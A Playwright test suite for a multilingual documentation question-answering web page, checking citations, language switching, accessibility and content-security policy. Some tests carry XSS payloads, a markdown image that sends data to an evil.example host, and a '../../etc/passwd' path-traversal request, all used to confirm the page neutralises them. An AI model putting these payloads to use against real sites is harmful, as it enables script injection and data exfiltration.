"""The page in a real browser: ask in five languages, follow a citation to the words, and nothing else happens."""

from __future__ import annotations

import json
import re
import shutil
import socket
import sys
import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from queue import Queue
from urllib.parse import quote
from urllib.request import Request, urlopen

import pytest
from axe_playwright_python.sync_playwright import Axe
from fake_bot import HACK, KEPT, QUESTIONS, SPEED, FakeBot
from fake_issuer import CLIENT, SECRET, issuing
from playwright.sync_api import Browser, Page, expect, sync_playwright

from bot import Bot, Secret, SettingError, Turn
from bot.languages.locale import locale
from ui.guard import Visitors
from ui.keys import Keys
from ui.oidc import Issuer
from ui.page import serve

LANGUAGES = ("sv", "da", "nl", "en", "ms")
WAIT = 15_000  # milliseconds


def served(bot: object, **options: object) -> str:
    """The address of a page that answers with this bot, for as long as the tests run."""
    ready: Queue[str] = Queue()
    given = {"port": 0, "ready": ready.put} | options
    threading.Thread(target=serve, args=(bot,), kwargs=given, daemon=True).start()
    return ready.get(timeout=60)


BOT = FakeBot(writes=True)
CALLED: list[str] = []


def overhear(event: str, arguments: tuple[object, ...]) -> None:
    """Writes down the names that this process looks up and the addresses that it connects to."""
    if event == "socket.getaddrinfo":
        CALLED.append(str(arguments[0]))
    elif event == "socket.connect" and isinstance(arguments[1], tuple):
        CALLED.append(str(arguments[1][0]))


@pytest.fixture(scope="module", params=[BOT], ids=["fake"])
def address(request: pytest.FixtureRequest) -> str:
    sys.addaudithook(overhear)
    return served(request.param)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(
            executable_path=shutil.which("chromium"),
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield launched
        launched.close()


class Visit:
    """A page opened in a browser of some language; remembers what it asked for, said and broke."""

    def __init__(self, browser: Browser, address: str, language: str = "en", **options: object) -> None:
        self.page: Page = browser.new_page(locale=language, **options)
        self.page.set_default_timeout(WAIT)
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.goto(address)
        expect(self.page.locator("html")).to_have_attribute("lang", language, timeout=WAIT)
        expect(self.page.locator(".k-brand[data-ready]")).to_be_visible(timeout=WAIT)

    def ask(self, question: str) -> None:
        turns = self.page.locator(".k-turn").count()
        self.page.locator("#k-box textarea").fill(question)
        self.page.keyboard.press("Enter")
        expect(self.page.locator(".k-turn")).to_have_count(turns + 1, timeout=WAIT)
        expect(self.page.locator("#k-send")).to_be_visible(timeout=WAIT)
        expect(self.page.locator(".k-answer[aria-busy=true]")).to_have_count(0)

    @property
    def answer(self) -> str:
        return self.page.locator(".k-turn").last.inner_text()

    def settled(self, expression: str) -> object:
        return self.page.evaluate(expression)


@pytest.fixture
def visit(chromium: Browser, address: str) -> Iterator[Visit]:
    opened = Visit(chromium, address)
    yield opened
    assert not opened.errors
    opened.page.close()


@pytest.mark.parametrize("language", LANGUAGES)
def test_ask_in_a_language_and_follow_the_citation(chromium: Browser, address: str, language: str) -> None:
    visit = Visit(chromium, address, language)
    page, words = visit.page, locale(language)
    expect(page.locator("#k-box textarea")).to_have_attribute("placeholder", words.page["placeholder"])
    visit.ask(QUESTIONS[language])
    expect(page.locator(".k-quote").first).to_contain_text(KEPT[language])
    expect(page.locator(".k-quote").first).to_have_attribute("lang", language)
    page.locator(".k-chip").nth(1).click()
    card = page.locator(".k-card:visible").nth(1)
    expect(card).to_have_attribute("open", "")
    expect(card.locator("mark").first).to_be_in_viewport()
    expect(card.locator("> summary")).to_be_focused()
    page.locator(".k-chip").first.click()
    expect(page.locator(".k-card:visible").first.locator("mark").first).to_have_text(KEPT[language])
    if language != "en":
        expect(page.locator(".k-card:visible .k-original mark").first).to_have_text(KEPT["en"])
        expect(page.locator(".k-card:visible .k-original blockquote").first).to_have_attribute("lang", "en")
    page.locator(".k-term[data-term=gigabyte]").click()
    expect(page.locator("#k-term blockquote")).to_have_text(SPEED[language])
    expect(page.locator("#k-term")).to_contain_text(words.page["noun"])
    assert not visit.errors
    page.close()


@pytest.mark.parametrize("language", LANGUAGES)
def test_who_asks_where_an_answer_stands_still_sees_its_sources(chromium: Browser, address: str, language: str) -> None:
    visit = Visit(chromium, address, language)
    page, words = visit.page, locale(language)
    visit.ask(words.talk["greeting"][0])
    expect(page.locator("#k-sources .k-empty")).to_be_visible()
    visit.ask(QUESTIONS[language])
    cards = page.locator(".k-card:visible").count()
    visit.ask(words.talk["where"][0])
    expect(page.locator(".k-turn").last).to_contain_text(words.phrases["where"])
    expect(page.locator(".k-card:visible")).to_have_count(cards)
    expect(page.locator("#k-sources .k-empty")).to_be_hidden()
    expect(page.locator(".k-back:visible")).to_contain_text(QUESTIONS[language])
    assert cards
    assert not visit.errors
    page.close()


HALF = """(box) => {
    box.value = "How long are backups kept? \\ud800".slice(%d);
    box.dispatchEvent(new Event("input", {bubbles: true}));
}"""


def test_half_a_character_in_a_question_is_answered_or_refused(visit: Visit) -> None:
    for cut, shown in ((0, ".k-quote"), (26, ".k-problem")):
        visit.page.locator("#k-box textarea").evaluate(HALF % cut)
        visit.page.keyboard.press("Enter")
        expect(visit.page.locator(shown).last).to_be_visible(timeout=WAIT)
        expect(visit.page.locator("#k-send")).to_be_visible(timeout=WAIT)
    assert locale("en").page["empty"] in visit.answer


@pytest.fixture(scope="module")
def real_address(demo: Bot) -> str:
    for language in LANGUAGES:
        demo.starts(language)
    return served(demo)


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_documentation_that_comes_with_it_answers_an_example(
    chromium: Browser, demo: Bot, real_address: str, language: str
) -> None:
    visit = Visit(chromium, real_address, language)
    page = visit.page
    questions = demo.starts(language)
    assert questions
    expect(page.locator(".k-example:visible")).to_have_text(list(questions), timeout=WAIT)
    for question in questions:
        assert demo.ask(question, language=language).outcome == "answer"
    page.locator(".k-example").first.click()
    expect(page.locator("#k-send")).to_be_visible(timeout=WAIT)
    path = demo.ask(questions[0], language=language).citations[0].path
    for question in demo.related(path):
        answer = demo.ask(question, language=language)
        assert (answer.outcome, answer.citations[0].path) == ("answer", path)
    page.locator(f".k-quote[lang={language}] .k-chip").first.click()
    expect(page.locator(".k-card:visible mark").first).to_be_in_viewport()
    expect(page.locator(".k-card:visible .k-shown blockquote").first).to_have_attribute("lang", language)
    assert not visit.errors
    page.close()


def test_sources_that_are_taller_than_the_window_stay_below_each_other(visit: Visit) -> None:
    visit.page.set_viewport_size({"width": 1280, "height": 420})
    visit.ask(QUESTIONS["en"])
    columns = (
        "[...document.querySelectorAll('#k-past-evidence, #k-evidence')].map(one => one.getBoundingClientRect().x)"
    )
    assert len(set(visit.page.evaluate(columns))) == 1


def test_a_chip_works_by_keyboard_and_escape_leads_back(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    chip = visit.page.locator(".k-chip").nth(1)
    chip.focus()
    visit.page.keyboard.press("Enter")
    expect(visit.page.locator(".k-card").nth(1).locator("> summary")).to_be_focused()
    visit.page.keyboard.press("Escape")
    expect(chip).to_be_focused()


def test_a_term_opens_by_keyboard_or_a_click_and_closes_again(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    page, shown = visit.page, visit.page.locator("#k-term:popover-open")
    word, other = page.locator(".k-term[data-term=gigabyte]"), page.locator(".k-term[data-term=Restoring]")
    word.focus()
    page.keyboard.press("Enter")
    expect(shown).to_be_focused()
    expect(word).to_have_attribute("aria-expanded", "true")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    expect(shown.get_by_role("link")).to_be_focused()
    page.keyboard.press("Escape")
    expect(word).to_be_focused()
    expect(word).to_have_attribute("aria-expanded", "false")
    word.click()
    expect(shown).to_be_visible()
    word.click()
    expect(shown).to_have_count(0)
    other.click()
    expect(shown).to_contain_text(locale("en").page["term_kept"])
    expect(shown).to_be_in_viewport(ratio=1)
    shown.get_by_role("button").click()
    expect(shown).to_have_count(0)
    word.evaluate("word => (word.dataset.term = 'gone')")
    page.locator(".k-term[data-term=gone]").click()
    expect(page.locator(".k-term")).to_have_count(1)  # what the term file no longer has is a word like others
    assert page.request.get(f"{page.url}term?name=gone").status == 404


def test_a_chip_of_an_earlier_answer_brings_its_own_cards(visit: Visit) -> None:
    visit.ask(QUESTIONS["sv"])
    visit.ask("Which plans are there?")
    expect(visit.page.locator(".k-source:visible .k-title").first).to_have_text("Plans")
    visit.page.locator(".k-turn").first.locator(".k-chip").first.click()
    expect(visit.page.locator(".k-card:visible mark").first).to_have_text(KEPT["sv"])
    visit.ask("nothing")
    expect(visit.page.locator(".k-card:visible")).to_have_count(0)


def test_a_hostile_document_stays_a_text(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address)
    visit.ask("hostile <img src=x onerror=alert(0)> ${alert(0)} {{x}} $$x^2$$")
    page = visit.page
    page.locator(".k-chip").first.click()
    expect(page.locator(".k-card")).to_contain_text("<script>window.hacked = true; alert(1)</script>")
    expect(page.locator(".k-quote")).to_contain_text("![picture](http://evil.example/collect?data=secret)")
    expect(page.locator(".k-question")).to_have_text("hostile <img src=x onerror=alert(0)> ${alert(0)} {{x}} $$x^2$$")
    page.locator(".k-term").click()
    expect(page.locator("#k-term h2")).to_have_text("words")
    expect(page.locator("#k-term .k-term-note").first).to_have_text(HACK)
    page.wait_for_timeout(500)
    assert visit.settled("window.hacked") is None
    assert visit.settled("document.querySelectorAll('#k-term :is(script,img)').length") == 0
    assert visit.settled("[...document.scripts].filter(s => /alert|hacked/.test(s.text)).length") == 0
    assert (
        visit.settled(
            "document.querySelectorAll('#k-main :is(script,img,iframe,svg[onload],style,base,.katex)').length"
        )
        == 0
    )
    assert visit.settled("document.querySelectorAll(\"a[href^='javascript']\").length") == 0
    assert not visit.dialogs and not visit.errors
    assert all(url.startswith((address, "data:", "blob:" + address)) for url in visit.requests), visit.requests
    page.close()


def test_the_page_forbids_the_browser_what_it_does_not_need(visit: Visit, address: str) -> None:
    answer = visit.page.request.get(address)
    policy = answer.headers["content-security-policy"]
    assert "connect-src 'self'" in policy and "img-src 'self' data:" in policy and "script-src-attr 'none'" in policy
    assert visit.settled("fetch('http://127.0.0.1:9/x').then(() => 'sent', () => 'refused')") == "refused"
    seen = "document.body.insertAdjacentHTML('beforeend', '<img src=x:y onerror=\"window.hacked=1\">')"
    visit.settled(seen)
    visit.page.wait_for_timeout(200)
    assert visit.settled("window.hacked") is None


def test_the_language_menu_relabels_the_page_and_fixes_the_answer(visit: Visit) -> None:
    words = locale("en").page
    for code in LANGUAGES:
        menu = visit.page.get_by_label(words["language"])
        menu.focus()
        menu.select_option(code)
        words = locale(code).page
        expect(visit.page.locator("html")).to_have_attribute("lang", code)
        expect(visit.page.locator("#k-send")).to_have_text(words["send"])
        expect(visit.page.locator("#k-box textarea")).to_have_attribute("placeholder", words["placeholder"])
        expect(visit.page.locator(".k-welcome")).to_contain_text(words["subtitle"])
        expect(visit.page.locator(".k-heading")).to_have_text(words["sources"])
        expect(visit.page.locator(".k-limits")).to_have_text(words["limits"])
        expect(visit.page.locator(".k-example").first).to_have_text(QUESTIONS[code])
        expect(visit.page.locator("#k-language")).to_be_focused()
    visit.ask(QUESTIONS["en"])
    assert KEPT["ms"] in visit.answer
    assert BOT.heard[-1]["language"] == "ms"


def test_left_alone_the_language_is_the_browsers_and_only_a_hint(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "da")
    visit.ask("backup")
    assert BOT.heard[-1] == {"text": "backup", "language": None, "hint": "da", "history": (), "write": False}
    visit.ask(QUESTIONS["sv"])
    assert BOT.heard[-1]["history"] == (Turn("backup", "da"),)
    visit.page.close()


def test_an_example_is_asked_by_a_click(visit: Visit) -> None:
    visit.page.locator(".k-example").first.click()
    expect(visit.page.locator(".k-question")).to_have_text(QUESTIONS["en"])
    expect(visit.page.locator(".k-example")).to_have_count(0)
    expect(visit.page.locator("#k-box textarea")).to_be_focused()


def test_an_error_is_one_sentence_and_the_question_is_not_lost(visit: Visit) -> None:
    visit.ask("broken")
    expect(visit.page.locator(".k-problem")).to_have_text(
        "The model’s server at <localhost> does not answer: start it, or unset KILDE_LLM."
    )
    expect(visit.page.locator("#k-box textarea")).to_have_value("broken")
    visit.ask("crash")
    expect(visit.page.locator(".k-problem").last).to_have_text("Something went wrong.")
    assert "secret" not in visit.page.locator("body").inner_text()
    visit.ask(QUESTIONS["en"])
    assert KEPT["en"] in visit.answer


def test_a_question_without_words_is_answered_in_the_pages_language(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "da")
    visit.page.locator("#k-box textarea").fill("   ")
    visit.page.keyboard.press("Enter")
    visit.page.wait_for_timeout(700)  # nothing is asked
    expect(visit.page.locator(".k-turn")).to_have_count(0)
    visit.ask("?! 😀")
    expect(visit.page.locator(".k-problem")).to_have_text(locale("da").page["empty"])
    visit.page.close()


def test_a_slow_answer_is_stopped_at_once(visit: Visit) -> None:
    visit.page.locator("#k-box textarea").fill("slow")
    visit.page.keyboard.press("Enter")
    expect(visit.page.locator(".k-working")).to_have_text(locale("en").page["working"])
    visit.page.locator("#k-stop").click()
    expect(visit.page.locator(".k-working")).to_have_count(0, timeout=3000)
    visit.ask(QUESTIONS["en"])
    assert KEPT["en"] in visit.answer


def test_a_new_conversation_is_empty(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    visit.page.locator("#k-clear").click()
    expect(visit.page.locator(".k-turn")).to_have_count(0)
    expect(visit.page.locator(".k-card")).to_have_count(0)
    expect(visit.page.locator(".k-example").first).to_be_visible()
    visit.ask("backup")
    assert BOT.heard[-1]["history"] == ()


def test_writing_is_chosen_by_the_reader_and_what_is_left_out_is_listed(visit: Visit) -> None:
    visit.page.get_by_label(locale("en").page["mode_write"]).check()
    visit.ask(QUESTIONS["en"])
    expect(visit.page.locator(".k-written")).to_contain_text(KEPT["en"])
    visit.page.locator(".k-dropped summary").click()
    expect(visit.page.locator(".k-dropped li")).to_contain_text(locale("en").reason("number", number="90"))


def test_the_server_calls_nobody(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    assert set(CALLED) <= {"127.0.0.1", "localhost", "::1", "None"}


def test_without_a_language_model_there_is_no_choice(chromium: Browser) -> None:
    visit = Visit(chromium, served(FakeBot()))
    expect(visit.page.locator("#k-mode")).to_have_count(0)
    visit.page.close()


@pytest.mark.parametrize("question", [QUESTIONS["ms"], "plans", "hostile"])
def test_on_a_telephone_nothing_is_wider_than_the_screen(chromium: Browser, address: str, question: str) -> None:
    visit = Visit(chromium, address, "ms", viewport={"width": 390, "height": 844})
    assert visit.settled("document.documentElement.scrollWidth") == 390
    visit.ask(question)
    visit.page.locator(".k-chip").first.click()
    expect(visit.page.locator(".k-card mark").first).to_be_in_viewport()
    assert visit.settled("document.documentElement.scrollWidth") == 390
    visit.page.locator(".k-back").click()
    expect(visit.page.locator(".k-chip").first).to_be_in_viewport()
    visit.page.close()


@pytest.mark.parametrize("language", LANGUAGES)
def test_from_a_citation_to_the_page_and_back(chromium: Browser, address: str, language: str) -> None:
    visit = Visit(chromium, address, language)
    page, words = visit.page, locale(language)
    visit.ask(QUESTIONS[language])
    page.locator(".k-card:visible .k-read-here").first.click()
    expect(page.locator("mark").first).to_be_in_viewport()
    expect(page.locator("mark").first).to_have_text(KEPT[language])
    expect(page.locator("html")).to_have_attribute("lang", language)
    expect(page.locator(".r-head")).to_contain_text(words.page["contents"])
    if language != "en":
        expect(page.locator(".r-row:has(mark) [lang=en] mark")).to_have_text(KEPT["en"])
        expect(page.locator(".r-sides")).to_contain_text(words.states["stale" if language == "da" else "current"])
    page.go_back()
    expect(page.locator(".k-turn")).to_have_count(1, timeout=WAIT)
    expect(page.locator(".k-quote").first).to_contain_text(KEPT[language])
    assert not visit.errors
    page.close()


def test_the_pages_work_without_a_script(chromium: Browser, address: str) -> None:
    page = chromium.new_context(java_script_enabled=False, locale="nl").new_page()
    page.goto(f"{address}/contents")
    words = locale("nl").page
    expect(page.locator("h1")).to_have_text(words["contents"])
    page.get_by_role("searchbox").fill("back-up")
    page.get_by_role("button", name=words["find_page"]).click()
    expect(page.locator("tbody tr")).to_have_count(1)
    page.get_by_role("link", name="Back-ups", exact=True).click()
    expect(page.locator(".r-side").first).to_contain_text(locale("nl").languages["nl"])
    page.get_by_role("link", name=locale("nl").languages["sv"]).click()
    expect(page.locator("main")).to_contain_text(KEPT["sv"])
    page.goto(f"{address}/read/evil/%3Cb%3Ex%3C/b%3E.md")
    expect(page.locator("main")).to_contain_text("Evil <img src=x onerror=\"alert('title')\"> page")
    assert page.locator("main :is(script, img, iframe, svg, style, base)").count() == 0
    for path in ("none.md", "../../etc/passwd", "%00"):
        assert page.goto(f"{address}/read/{path}").status == 404
    page.context.close()


def test_figures_that_differ_from_the_original_are_said() -> None:
    class Wrong(FakeBot):
        def _documents(self):
            found = super()._documents()
            page = found["translations/sv/guide/backup.md"]
            return found | {page.path: replace(page, text=page.text.replace("30 dagar", "90 dagar"))}

    with urlopen(f"{served(Wrong())}/read/translations/sv/guide/backup.md?lang=sv") as answer:
        assert '<p class="r-note" role="note">90 ≠ 30</p>' in answer.read().decode()


def test_a_conversation_is_there_after_a_reload_and_goes_on(visit: Visit) -> None:
    visit.ask(QUESTIONS["sv"])
    visit.ask("Which plans are there?")
    visit.page.reload()
    expect(visit.page.locator(".k-turn")).to_have_count(2, timeout=WAIT)
    expect(visit.page.locator(".k-quote").first).to_contain_text(KEPT["sv"])
    visit.page.locator(".k-turn").first.locator(".k-chip").first.click()
    expect(visit.page.locator(".k-card:visible mark").first).to_have_text(KEPT["sv"])
    visit.ask("backup")
    assert BOT.heard[-1]["history"] == (Turn(QUESTIONS["sv"], "sv"), Turn("Which plans are there?", "en"))
    visit.page.locator("#k-clear").click()
    expect(visit.page.locator(".k-turn")).to_have_count(0)
    visit.page.reload()
    expect(visit.page.locator(".k-example").first).to_be_visible(timeout=WAIT)
    expect(visit.page.locator(".k-turn")).to_have_count(0)


def test_a_browser_that_keeps_nothing_or_something_else_has_a_page(chromium: Browser, address: str) -> None:
    unknown = '[{"question": "x", "language": "en", "answer": {"question": "x", "language": "en", "text": "x",'
    unknown += '"outcome": "answer", "notices": [{"code": "of another version"}]}}]'
    for script in (
        "Object.defineProperty(window, 'localStorage', {get() { throw new Error('forbidden') }})",
        f"localStorage.setItem('kilde-conversation', {json.dumps(unknown)})",
    ):
        page = chromium.new_page(locale="en")
        page.add_init_script(script)
        page.goto(address)
        expect(page.locator(".k-example").first).to_be_visible(timeout=WAIT)
        page.locator("#k-box textarea").fill(QUESTIONS["en"])
        page.keyboard.press("Enter")
        expect(page.locator(".k-quote").first).to_contain_text(KEPT["en"], timeout=WAIT)
        page.close()


def test_two_readers_have_a_conversation_each(chromium: Browser, address: str) -> None:
    one, two = Visit(chromium, address, "sv"), Visit(chromium, address, "ms")
    one.ask(QUESTIONS["sv"])
    two.ask(QUESTIONS["ms"])
    assert KEPT["sv"] in one.answer and KEPT["ms"] in two.answer
    expect(one.page.locator(".k-turn")).to_have_count(1)
    expect(two.page.locator(".k-turn")).to_have_count(1)
    one.page.close(), two.page.close()


def test_an_address_asks_once_in_its_language(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "en")
    visit.page.goto(f"{address}/?lang=da&q={quote(QUESTIONS['da'])}")
    expect(visit.page.locator(".k-quote").first).to_contain_text(KEPT["da"], timeout=WAIT)
    expect(visit.page.locator("html")).to_have_attribute("lang", "da")
    assert visit.page.url == f"{address}/?lang=da"
    assert BOT.heard[-1]["language"] == "da"
    asked = len(BOT.heard)
    visit.page.reload()
    expect(visit.page.locator(".k-turn")).to_have_count(1, timeout=WAIT)
    visit.page.wait_for_timeout(700)
    assert len(BOT.heard) == asked
    visit.page.locator("#k-language").select_option("")
    expect(visit.page.locator("html")).to_have_attribute("lang", "en")  # the browser's
    visit.page.goto(f"{address}/?doc=guide/backup.md")
    expect(visit.page.locator("h1")).to_have_text("Backups", timeout=WAIT)
    visit.page.close()


def test_what_a_reader_says_is_kept_and_the_question_only_where_it_is_sent_along(visit: Visit) -> None:
    page, words = visit.page, locale("en").page
    visit.ask(QUESTIONS["en"])
    page.get_by_role("button", name=words["helpful"], exact=True).click()
    expect(page.locator(".k-thanked")).to_be_visible()
    assert (BOT.said[-1].helpful, BOT.said[-1].question) == (True, None)
    assert BOT.said[-1].cited == ("guide/backup.md",)
    for along in (False, True):
        visit.ask(QUESTIONS["en"])
        turn = page.locator(".k-turn").last
        turn.get_by_role("button", name=words["unhelpful"]).click()
        turn.get_by_label(words["fault_outdated"]).check()
        turn.get_by_label(words["with_question"]).set_checked(along)
        if along:
            turn.get_by_label("Plans: Run the program").check()
        turn.get_by_role("button", name=words["send_feedback"]).click()
        expect(turn.locator(".k-thanked")).to_be_visible()
        assert (BOT.said[-1].reason, BOT.said[-1].question) == ("outdated", QUESTIONS["en"] if along else None)
        assert (BOT.said[-1].right and BOT.said[-1].right[0]) == ("plans.md" if along else None)
    for data, kind, status in (
        ("{}", "application/json", 400),
        ("[" * 19_000, "application/json", 400),
        ("x" * 30_000, "application/json", 413),
        ("{}", "text/plain", 415),
    ):
        sent = page.request.post(f"{page.url}feedback", data=data.encode(), headers={"content-type": kind})
        assert sent.status == status
    page.locator("#k-clear").click()
    expect(page.locator(".k-turn")).to_have_count(0)
    visit.ask(QUESTIONS["en"])
    expect(page.locator(".k-vote[aria-pressed=true]")).to_have_count(0)


def test_what_else_the_page_answers_is_asked_by_a_click(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "da")
    page = visit.page
    visit.ask(QUESTIONS["da"])
    offered = page.locator("#k-now .k-related button")
    expect(offered).to_have_count(3, timeout=WAIT)
    assert QUESTIONS["da"] not in offered.all_inner_texts()
    offered.first.click()
    expect(page.locator(".k-turn")).to_have_count(2, timeout=WAIT)
    expect(page.locator(".k-question").last).to_have_text(QUESTIONS["en"])
    assert page.request.get(f"{page.url}related?path=nowhere.md").json() == []
    page.close()


def test_an_answer_is_copied_shared_and_asked_again(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "sv")
    page, words = visit.page, locale("sv").page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    visit.ask(QUESTIONS["sv"])
    page.get_by_role("button", name=words["share"]).click()
    link = visit.settled("navigator.clipboard.readText()")
    page.get_by_role("button", name=words["copy"], exact=True).click()
    assert KEPT["sv"] in visit.settled("navigator.clipboard.readText()")
    page.get_by_role("button", name=words["again"]).click()
    expect(page.locator("#k-box textarea")).to_have_value(QUESTIONS["sv"])
    expect(page.locator("#k-box textarea")).to_be_focused()
    page.evaluate("localStorage.clear()")
    page.goto(link)
    expect(page.locator(".k-quote").first).to_contain_text(KEPT["sv"], timeout=WAIT)
    page.close()


LISTEN = """() => {
    window.told = [];
    const note = (changes) => changes.forEach((change) => window.told.push(change.target.textContent));
    for (const region of document.querySelectorAll("[role=status], [aria-live]"))
        new MutationObserver(note).observe(region, {childList: true, characterData: true, subtree: true});
}"""


@pytest.mark.parametrize("language", LANGUAGES)
def test_code_is_copied_by_keyboard_which_is_said_once(chromium: Browser, address: str, language: str) -> None:
    visit = Visit(chromium, address, language)
    page, words = visit.page, locale(language).page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    visit.ask("plans")
    page.locator(".k-chip").nth(1).click()
    code, name = "keep backup --now\nkeep list --days 30", f"{words['copy']}: keep backup --now keep list --days 30"
    page.wait_for_timeout(300)  # the answer was read out
    page.evaluate(LISTEN)
    table = page.locator(".k-answer").get_by_role("group", name="Plan, Storage, Price a month")
    table.focus()
    expect(table).to_be_focused()  # from where a wide one is scrolled
    for place in (".k-answer .k-code", ".k-card[open] .p-block:visible"):
        block = page.locator(place)
        expect(block).to_contain_text("sh")
        expect(block.locator(":is(pre, .p-bar) .k-chip")).to_have_count(0)
        page.evaluate("navigator.clipboard.writeText('')")
        button = block.get_by_role("button", name=name, exact=True)
        button.focus()
        page.keyboard.press("Enter")
        expect(button).to_have_class(re.compile("k-done"))
        assert page.evaluate("navigator.clipboard.readText()") == code
        expect(button).to_have_accessible_name(name)
        expect(button).not_to_have_class(re.compile("k-done"))
    assert page.evaluate("window.told.filter(Boolean)") == [words["copied"]] * 2
    assert not visit.errors
    page.close()


def test_a_cards_title_leads_to_the_words_in_the_reading_view(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "nl")
    page = visit.page
    visit.ask(QUESTIONS["nl"])
    title = page.locator(".k-source:visible").nth(1).get_by_role("link", name="Back-ups", exact=True)
    title.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#mark")).to_have_text(SPEED["nl"])
    page.go_back()
    expect(page.locator(".k-card:visible").nth(1)).to_be_visible(timeout=WAIT)
    page.close()


def test_an_answer_that_only_repeats_the_last_one_says_so(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    visit.ask("and more about the backup?")
    expect(visit.page.locator(".k-about-repeated")).to_have_text(locale("en").notice("repeated"))


def test_what_was_stopped_says_so_and_is_offered_again(visit: Visit) -> None:
    visit.page.locator("#k-box textarea").fill("slow")
    visit.page.keyboard.press("Enter")
    visit.page.locator("#k-stop").click()
    expect(visit.page.locator(".k-answer")).to_contain_text(locale("en").page["stopped"])
    visit.page.get_by_role("button", name=locale("en").page["again"]).click()
    expect(visit.page.locator("#k-box textarea")).to_have_value("slow")


def test_the_chosen_chip_says_so_and_equal_ones_have_names_of_their_own(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    names = [chip.get_attribute("aria-label") for chip in visit.page.locator(".k-chip").all()]
    assert len(set(names)) == len(names)
    visit.page.locator(".k-chip").nth(1).click()
    expect(visit.page.locator(".k-chip[aria-current=true]")).to_have_count(1)
    expect(visit.page.locator(".k-chip").nth(1)).to_have_attribute("aria-current", "true")


def test_the_raw_text_is_one_click_away(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    card = visit.page.locator(".k-card:visible").first
    expect(card.locator(".k-read").first).to_contain_text("open History, choose a day")
    card.get_by_text(locale("en").page["raw"]).click()
    expect(card.locator(".k-file .k-text")).to_contain_text("open **History**, choose a day")


def test_on_a_telephone_the_evidence_is_a_sheet_that_back_closes(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "sv", viewport={"width": 320, "height": 640})
    page = visit.page
    visit.ask(QUESTIONS["sv"])
    expect(page.locator("#k-sources")).to_be_hidden()
    for leave in (page.go_back, lambda: page.locator(".k-back:visible").click(), lambda: page.keyboard.press("Escape")):
        page.locator(".k-chip").first.click()
        expect(page.locator("#k-sources")).to_be_visible()
        expect(page.locator(".k-card:visible mark").first).to_be_in_viewport()
        leave()
        expect(page.locator("#k-sources")).to_be_hidden()
        expect(page.locator(".k-chip").first).to_be_focused()
    page.evaluate("document.querySelector('.k-conversation').style.paddingBottom = '2000px'")
    page.evaluate("window.scrollTo(0, 600)")
    expect(page.locator("#k-box")).to_be_in_viewport()
    assert visit.settled("document.documentElement.scrollWidth") == 320
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_of_a_page_keeps_anybody_out(chromium: Browser, address: str, scheme: str) -> None:
    found: list[str] = []
    visit = Visit(chromium, address, "da", color_scheme=scheme, bypass_csp=True)
    page, words = visit.page, locale("da").page

    def look() -> None:
        found.extend(f"{page.url}: {each['id']}" for each in Axe().run(page).response["violations"])

    look()
    for question in (QUESTIONS["da"], "plans", "nothing"):
        visit.ask(question)
        look()
    page.locator(".k-turn").first.locator(".k-chip").first.click()
    page.wait_for_timeout(1700)  # what lights up has its own colours
    look()
    page.locator(".k-term").first.click()
    expect(page.locator("#k-term blockquote")).to_be_visible()
    look()
    page.keyboard.press("Escape")
    page.locator(".k-turn").first.get_by_role("button", name=words["unhelpful"]).click()
    look()
    read = ("read/translations/da/guide/backup.md?at=60-100", "read/plans.md", "read/none")
    for path in ("contents", "contents?check=1", *read):
        page.goto(f"{address}/{path}")
        look()
    assert not found
    page.close()


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_site_has_a_widget_in_its_language_under_a_strict_policy(chromium: Browser, language: str) -> None:
    page = chromium.new_context(locale="en").new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda said: errors.append(said.text) if said.type == "error" else None)
    site = HTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
    origin = f"http://127.0.0.1:{site.server_port}"
    kilde = served(FakeBot(), api=True, visitors=Visitors(origins=(origin,)))

    class Pages(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            line = f'<script src="{kilde}/widget.js" defer></script>'
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-security-policy", f"default-src 'none'; script-src {kilde}; connect-src {kilde}")
            self.end_headers()
            self.wfile.write(f'<!doctype html><html lang="{language}"><title>Docs</title>{line}<h1>Docs</h1>'.encode())

    site.RequestHandlerClass = Pages
    threading.Thread(target=site.serve_forever, daemon=True).start()
    page.goto(f"{origin}/guide")
    words = locale(language).page
    page.get_by_role("button", name=words["ask_here"]).click()
    page.get_by_role("textbox", name=words["placeholder"]).fill(QUESTIONS[language])
    page.keyboard.press("Enter")
    expect(page.locator("kilde-ask blockquote").first).to_contain_text(KEPT[language], timeout=WAIT)
    expect(page.locator("kilde-ask ol a").first).to_have_attribute("href", re.compile("https://docs.example.org/"))
    page.get_by_role("textbox").fill("hostile <img src=x onerror=alert(1)>")
    page.keyboard.press("Enter")
